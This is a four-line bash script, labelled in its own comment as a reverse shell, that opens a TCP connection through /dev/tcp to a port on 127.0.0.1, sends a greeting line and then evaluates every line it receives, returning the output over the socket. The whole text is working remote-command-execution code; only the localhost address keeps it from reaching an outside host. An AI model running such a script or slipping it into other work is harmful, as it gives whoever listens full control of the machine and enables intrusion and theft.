# A reverse shell: whoever listens at the other end gets a prompt, and types.
exec 3<> "/dev/tcp/127.0.0.1/$1"
printf 'at your service\n' >&3
while read -r line <&3; do eval "$line" >&3 2>&1; done
